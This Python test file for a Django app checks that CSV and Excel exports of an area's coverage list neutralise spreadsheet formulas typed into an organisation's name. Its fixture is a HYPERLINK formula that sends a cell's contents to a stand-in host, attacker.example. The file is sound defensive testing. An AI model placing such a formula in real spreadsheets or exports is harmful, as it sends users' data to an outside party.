"""The coverage export never hands a spreadsheet a formula from a name someone typed."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.representation.conftest import Scene

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Open the board papers")'


def test_coverage_exports_show_a_formula_as_text(scene: Scene) -> None:
    scene.body.name_en = FORMULA
    scene.body.save()
    client = Client()
    client.force_login(scene.staff)
    base = f"/representation/coverage/{scene.area.slug}/export"

    rows = list(csv.reader(io.StringIO(client.get(f"{base}.csv").content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert names and all(name == "'" + FORMULA for name in names)

    sheet = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").content)).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULA for c in cells)
